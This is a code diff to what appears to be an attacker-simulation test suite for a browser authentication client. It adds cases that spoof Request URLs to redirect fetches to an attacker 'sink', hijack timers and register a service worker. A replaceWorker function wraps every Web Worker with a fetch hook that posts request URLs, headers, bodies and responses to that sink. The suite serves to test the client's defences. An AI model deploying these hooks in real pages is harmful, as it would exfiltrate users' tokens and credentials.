@@ -51,6 +51,44 @@ const acts = {
     await within(6000, () => app().fetch(new Request(hostile[0])));
   },
 
+  async "T5 a request that lies about its address"(attack) {
+    // The client judges what the request says, and the browser sends it where it goes.
+    const address = `${given.sink}/steal/${encodeURIComponent(attack)}`;
+    const lie = { configurable: true, get: () => given.resource };
+    const owner = RealRequest.prototype;
+    const members = ["url", "clone"].map((name) => [name, getOwnPropertyDescriptor(owner, name)]);
+    const known = getOwnPropertyDescriptor(globalThis, "Request");
+    // On the prototype.
+    replace(owner, "url", lie);
+    await within(6000, () => app().fetch(new RealRequest(address)));
+    // On the request, and on every copy of it.
+    replace(owner, "url", members[0][1]);
+    const made = new RealRequest(address);
+    defineProperty(made, "url", lie);
+    defineProperty(made, "clone", { value: () => made });
+    await within(6000, () => app().fetch(made));
+    // What is made of any address is a request to the attacker, and says that it is not.
+    replace(globalThis, "Request", {
+      ...known,
+      value: new Proxy(RealRequest, {
+        construct(real, [, init]) {
+          const request = new real(address, init);
+          defineProperty(request, "url", lie);
+          return request;
+        },
+      }),
+    });
+    await within(6000, () => app().fetch(given.resource));
+    await within(6000, () => app().fetch(new RealRequest(given.resource)));
+    replace(globalThis, "Request", known);
+    // An address that is another one when it is asked again.
+    for (let first = 1; first <= 3; first++) {
+      let times = 0;
+      await within(6000, () => app().fetch({ toString: () => (times++ < first ? given.resource : address) }));
+    }
+    for (const [name, descriptor] of members) replace(owner, name, descriptor);
+  },
+
   async "T21 redirect to the attacker"(attack) {
     for (const status of [301, 302, 303, 307, 308]) {
       const to = encodeURIComponent(`${given.sink}/steal/${encodeURIComponent(attack)}`);
@@ -185,6 +223,33 @@ const rivals = {
     await within(8000, () => rival.refresh());
   },
 
+  async "T15 timers that kill the worker"(attack) {
+    // A client that waits for its worker by such a clock gives it up at once. What does it do then?
+    const scriptOf = replaceWorker(attack);
+    const { fetch: before } = globalThis;
+    listenTo(globalThis, "fetch", attack);
+    const { setWorkerSource, setWasmSource } = await import(`${given.page}${given.dist}/index.js`);
+    setWorkerSource?.(scriptOf(`${given.page}${given.dist}/worker.js`, true));
+    setWasmSource?.(
+      new RealPromise((resolve) => realTimer(resolve, 50, realFetch(`${given.page}${given.wasm}/authsafe_bg.wasm`))),
+    );
+    // What waits by it again and again would hold up the page, and the attacker with it.
+    let left = 200;
+    for (const name of ["setTimeout", "setInterval"]) {
+      const { value: real } = getOwnPropertyDescriptor(globalThis, name);
+      replace(globalThis, name, {
+        configurable: true,
+        writable: true,
+        value: (work, ...rest) => (left-- > 0 ? (queueMicrotask(work), 0) : apply(real, globalThis, [work, ...rest])),
+      });
+    }
+    for (let at = 0; at < 3; at++) {
+      await within(4000, () => app().fetch(given.resource));
+      await within(4000, () => app().refresh());
+    }
+    globalThis.fetch = before;
+  },
+
   async "T17 the worker, spoken to directly"(attack) {
     const worker = new Worker(`${given.page}${given.dist}/worker.js`, { type: "module" });
     await speak(attack, (message) => worker.postMessage(message), worker);
@@ -214,16 +279,16 @@ const rivals = {
     await within(6000, async () => report(attack, await core.idTokenClaims()));
   },
 
-  async "T51 second client in a frame with pristine functions"(attack) {
+  async "T54 second client in a frame with pristine functions"(attack) {
     const frame = document.createElement("iframe");
     frame.src = `${given.page}/theft/blank.html`;
     await new Promise((resolve) => {
       frame.onload = resolve;
       document.body.append(frame);
     });
-    const options = { ...app().options, isolation: "page", exposeAccessToken: true, restore: STORED };
+    frame.contentWindow.options = { ...app().options, isolation: "page", exposeAccessToken: true, restore: STORED };
     const work = `import(${stringify(`${given.page}${given.dist}/index.js`)}).then(async ({ createAuthClient }) => {
-      const client = createAuthClient(${stringify(options)});
+      const client = createAuthClient(options);
       await client.init();
       return client.getAccessToken();
     })`;
@@ -247,34 +312,7 @@ const traps = {
   },
 
   "T15 Worker constructor, replaced"(attack) {
-    // The attacker's worker hooks its own realm first, and then is the client's.
-    const hook = `
-      const real = self.fetch.bind(self);
-      const tell = (value) => real(${stringify(`${given.sink}/batch`)}, { method: "POST", mode: "no-cors",
-        body: JSON.stringify([[${stringify(attack)}, value]]) });
-      self.fetch = async (input, init) => {
-        const request = new Request(input, init);
-        tell(request.url + JSON.stringify([...request.headers]) + (await request.clone().text()));
-        const response = await real(request);
-        response.clone().text().then(tell);
-        return response;
-      };`;
-    const address = (text) => URL.createObjectURL(new RealBlob([text], { type: "text/javascript" }));
-    const hooked = address(hook);
-    const found = getOwnPropertyDescriptor(globalThis, "Worker");
-    replace(globalThis, "Worker", {
-      ...found,
-      value: new Proxy(found.value, {
-        construct(real, [url, options], target) {
-          const script = new URL(url, document.baseURI).href;
-          const isModule = options?.type === "module";
-          const load = isModule
-            ? `import ${stringify(hooked)}; import ${stringify(script)};`
-            : `importScripts(${stringify(hooked)}, ${stringify(script)});`;
-          return Reflect.construct(real, [address(load), options], target);
-        },
-      }),
-    });
+    replaceWorker(attack);
   },
 
   "T15 messages to the worker, tampered with"(attack) {
@@ -324,6 +362,18 @@ const traps = {
     }, 50);
   },
 
+  "T51 service worker"(attack) {
+    // It covers the page and the scripts of workers, and is asked for each of their requests.
+    const query = new URLSearchParams({ sink: given.sink, attack });
+    const ready = async () => {
+      const { serviceWorker } = navigator;
+      await serviceWorker.register(`/theft/service-worker.js?${query}`, { scope: "/theft/" });
+      await serviceWorker.ready;
+      while (!serviceWorker.controller) await new RealPromise((resolve) => realTimer(resolve, 20));
+    };
+    track(within(10_000, ready));
+  },
+
   "T25 the code, before the client reads it"(attack) {
     if (!new URLSearchParams(location.search).has("code")) return;
     report(attack, location.href);
@@ -342,6 +392,42 @@ const traps = {
 
 const app = () => globalThis.app;
 
+/** Every worker that the page starts from now on is the attacker's, which hooks its own realm first, and then is the client's. */
+function replaceWorker(attack) {
+  const hook = `
+    const real = self.fetch.bind(self);
+    const tell = (value) => real(${stringify(`${given.sink}/batch`)}, { method: "POST", mode: "no-cors",
+      body: JSON.stringify([[${stringify(attack)}, value]]) });
+    self.fetch = async (input, init) => {
+      const request = new Request(input, init);
+      tell(request.url + JSON.stringify([...request.headers]) + (await request.clone().text()));
+      const response = await real(request);
+      response.clone().text().then(tell);
+      return response;
+    };`;
+  const address = (text) => URL.createObjectURL(new RealBlob([text], { type: "text/javascript" }));
+  const hooked = address(hook);
+  const scriptOf = (script, isModule) =>
+    address(
+      isModule
+        ? `import ${stringify(hooked)}; import ${stringify(script)};`
+        : `importScripts(${stringify(hooked)}, ${stringify(script)});`,
+    );
+  const found = getOwnPropertyDescriptor(globalThis, "Worker");
+  replace(globalThis, "Worker", {
+    ...found,
+    value: new Proxy(found.value, {
+      construct(real, [url, options], target) {
+        const script = scriptOf(new URL(url, document.baseURI).href, options?.type === "module");
+        const worker = Reflect.construct(real, [script, options], target);
+        apply(realAdd, worker, ["message", (event) => report(attack, event)]);
+        return worker;
+      },
+    }),
+  });
+  return scriptOf;
+}
+
 /** A trap that says this has caught all that it will. */
 const DONE = "done: nothing more will come";
 const ASKED = 987_654;
@@ -358,7 +444,9 @@ async function second(changes) {
 
 /** The wire protocol of `worker.js`, spoken by the attacker, who does for it what the page would do. */
 async function speak(attack, post, source) {
-  const { issuer: _, ...options } = app().options;
+  const { issuer: _, storage, ...rest } = app().options;
+  // The page keeps the functions of an adapter.
+  const options = { ...rest, storage: storage?.adapter ? { ...storage, adapter: undefined } : storage };
   const opened = new Promise((resolve) => {
     apply(realAdd, source, [
       "message",
@@ -369,6 +457,7 @@ async function speak(attack, post, source) {
         const [place, method, first, text] = data.service;
         let value;
         if (place === "cookies") value = method === "set" ? (document.cookie = first) : document.cookie;
+        else if (place === "adapter") value = storage.adapter[method](first, text);
         else if (place.endsWith("Storage")) value = globalThis[place][`${method}Item`](first, text);
         post({ kind: "answer", id: data.id, value: typeof value === "string" ? value : undefined });
       },
